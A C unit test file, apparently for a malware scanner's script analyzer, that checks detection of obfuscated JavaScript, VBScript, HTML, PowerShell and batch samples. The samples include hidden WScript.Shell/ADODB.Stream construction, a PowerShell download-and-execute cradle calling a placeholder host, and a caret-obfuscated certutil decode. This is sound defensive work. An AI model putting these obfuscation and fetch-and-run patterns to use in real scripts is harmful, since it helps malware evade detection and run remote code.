/* SPDX-License-Identifier: Apache-2.0 */
/* Scripts are inert: reserved names, programs that do not exist. */
#include "base/buf.h"
#include "observe/part/harness.h"

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

static const struct {
    const char *what, *name, *text;
    enum fact_id id;
    const char *value; /* NULL: there must be no such fact */
} cases[] = {
    /* constants put together */
    { "joined literals", "a.js", "x=new ActiveXObject('WScr'+'ipt.Sh'+'ell');", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "joined names", "a.js", "var a='WScr',b='ipt.',c='Shell';x=new ActiveXObject(a+b+c);",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "appended", "a.js", "var a='ADO';a+='DB.';a+='Stream';f(a)", FACT_SCRIPT_CLASS,
      "ADODB.Stream" },
    { "elements of an array", "a.js", "var a=['Sh','x','WScript.','ell'];f(a[2]+a[0]+a[1+2])",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "new Array", "a.js", "var a=new Array('WScript.','Shell');f(a[0]+a[1])", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "joined array", "a.js", "f(['WScript','Shell'].join('.'))", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "split and joined", "a.js", "f('WSxqcript.Shxqell'.split('xq').join(''))", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "turned round", "a.js", "f('llehS.tpircSW'.split('').reverse().join(''))", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "replaced", "a.js", "f('WScrQQipt.ShQQell'.replace(/QQ/g,''))", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "character codes", "a.js", "f(String.fromCharCode(87,83)+'cript.Shell')", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "escaped letters", "a.js", "f('\\x57Script.\\u0053hell')", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "percent escapes", "a.js", "f(unescape('%57Script%2EShell'))", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "functions of a constant", "a.js",
      "function a(){return 'WScript.';}function b(){return 'Shell'}f(a()+b())", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "functions of their argument", "a.js", "function a(x){return x;}f(a('WScript.')+a('Shell'))",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "functions that append", "a.js",
      "var s='';function b(){s+='Shell';};function a(){s+='WScript.';};a();b();f(s)",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "members of an object", "a.js", "var o={a:'WScript',b:'.Shell'};f(o.a+o.b)",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "the last of a list", "a.js", "f(('x','y','WScript')+('z','.Shell'))", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "arithmetic", "a.js", "var a=['x','WScript.Shell'];f(a[124-124+9-8])", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "basic: joined", "a.vbs", "Set x = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "basic: character codes", "a.vbs", "f Chr(87) & Chr(&H53) & \"cript.Shell\"",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "basic: turned round", "a.vbs", "x = StrReverse(\"llehS.tpircSW\")", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "basic: replaced", "a.vbs", "x = Replace(\"WScr##ipt.Sh##ell\", \"##\", \"\")",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "basic: constants", "a.vbs", "Const a = \"WScript.\"\r\nb = a & _\r\n \"Shell\"\r\nf b",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "basic: an array", "a.vbs", "a = Array(\"Shell\", \"WScript.\")\r\nf a(1) & a(0)",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    /* text that is evaluated */
    { "evaluated text is read", "a.js", "eval(\"new ActiveXObject('WScript\"+\".Shell')\")",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "another name for eval", "a.js",
      "var p=eval,a='new ActiveXObj',b='ect(\"ADODB.Stream\")';p(a+b)", FACT_SCRIPT_CLASS,
      "ADODB.Stream" },
    { "basic: executed text", "a.vbs",
      "Execute \"Set x = Create\" & \"Object(\"\"WScript.Shell\"\")\"", FACT_SCRIPT_CLASS,
      "WScript.Shell" },
    { "packed", "a.js",
      "eval(function(p,a,c,k,e,d){return p}('0 1=2 "
      "3(\\'4\\')',10,5,'var|x|new|ActiveXObject|ADODB.Stream'.split('|'),0,{}))",
      FACT_SCRIPT_CLASS, "ADODB.Stream" },
    { "conditional comment", "a.js", "/*@cc_on x=new ActiveXObject('WScript.Shell'); @*/",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    /* what acts */
    { "a host by its object", "a.js", "WScript.Echo('x')", FACT_SCRIPT_HOST, "wsh" },
    { "a host in brackets", "a.js", "this['WScr'+'ipt']['Quit']()", FACT_SCRIPT_HOST, "wsh" },
    { "a browser", "a.js", "document.title='x'", FACT_SCRIPT_HOST, "browser" },
    { "no host", "a.js", "a=1", FACT_SCRIPT_HOST, "any" },
    { "runs", "a.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"example\", 0",
      FACT_SCRIPT_SINK_KIND, "run" },
    { "member in brackets", "a.js", "f('WScript.Shell');a['R'+'u'+'n']('x')", FACT_SCRIPT_SINK, "Run" },
    { "a member of a page is none", "a.js", "document.x;task.run('x')", FACT_SCRIPT_SINK, NULL },
    { "an address in pieces", "a.js", "WScript.x;f('htt'+'p://a.exa'+'mple/b')", FACT_SCRIPT_URL,
      "http://a.example/b" },
    { "computed class", "a.js", "WScript.x;new ActiveXObject(g())", FACT_SCRIPT_OBFUSCATION, NULL },
    /* pages */
    { "a page's script", "a.html", "<script>x=new ActiveXObject('WScr'+'ipt.Shell')</script>",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "two scripts of a page", "a.html",
      "<script>a='WScript.';eval</script><script>x=new ActiveXObject(a+'Shell')</script>",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "a page's basic", "a.html",
      "<script language=vbscript>Dim x\nSet x = CreateObject(\"WScript.\" & \"Shell\")\nEnd "
      "If</script>",
      FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "a page that does nothing", "a.html", "<script>var a=1;</script>", FACT_SCRIPT_HOST, NULL },
    /* shells */
    { "a cradle", "a.ps1", "I`EX (New-Object Net.WebClient).Down`loadString('http://a.example/')",
      FACT_SCRIPT_SINK, "DownloadString" },
    { "the address of a cradle", "a.ps1", "iwr http://a.example/x | iex", FACT_SCRIPT_URL,
      "http://a.example/x" },
    { "a word inside another", "a.ps1", "$apiex = 1; $regiex (1)", FACT_SCRIPT_SINK, NULL },
    { "carets", "a.bat", "cer^tu^til -de^code a b", FACT_SCRIPT_SINK, "certutil -decode" },
    /* what must not be taken for something */
    { "a word in a comment", "a.js", "// new ActiveXObject('WScript.Shell')\nvar a;",
      FACT_SCRIPT_CLASS, NULL },
    { "a string without an end", "a.js", "f('WScript.Shell\n", FACT_SCRIPT_CLASS, "WScript.Shell" },
    { "brackets that do not match", "a.js", ")]}({[f('WScript.Shell'", FACT_SCRIPT_HOST, "wsh" },
    { "brackets of another kind", "a.js", "f([('a'];'b')}{(", FACT_SCRIPT_HOST, "any" },
    { "an element behind the end", "a.js", "a=['x'];f(a[7]+a[-1]+'y'[99])", FACT_SCRIPT_HOST,
      "any" },
    { "division by zero", "a.js", "f(1/0+1%0)", FACT_SCRIPT_HOST, "any" },
};

static void each_case_is_seen(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct tally *t = tally_observed(&(struct tally_options){ .name = cases[i].name },
                                         slice_of(cases[i].text));
        tally_check(t);
        if (cases[i].value ? !tally_has(t, cases[i].id, cases[i].value)
                           : tally_fact(t, cases[i].id) != NULL)
            fail_msg("%s: '%.*s'", cases[i].what, SLICE_FMT(tally_text(t, cases[i].id, 0)));
        tally_drop(&t);
    }
}

/* Input that is made to be expensive: the allowance ends it, or the bounds do. */
static void costs_are_bounded(void **state)
{
    static const char *const units[] = {
        "a+=a;",      "(",    "[",  "{",   "f(", "eval('", "function a(){",
        "a=a+a+'x';", "'x'+", "x?", "{a:", "!",  "a.b.",   "return '"
    };
    (void)state;
    for (size_t i = 0; i < sizeof units / sizeof units[0]; i++) {
        for (int basic = 0; basic < 2; basic++) {
            struct buf b = buf_new(4 << 20);
            buf_text(&b, "a='x';");
            while (b.len < 300000)
                buf_text(&b, units[i]);
            struct tally *t = tally_observed(
                &(struct tally_options){ .name = basic ? "a.vbs" : "a.js" }, buf_slice(&b));
            tally_check(t);
            assert_true(t->budget.left[BUDGET_WORK] > 0);
            tally_drop(&t);
            buf_drop(&b);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_case_is_seen),
        cmocka_unit_test(costs_are_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
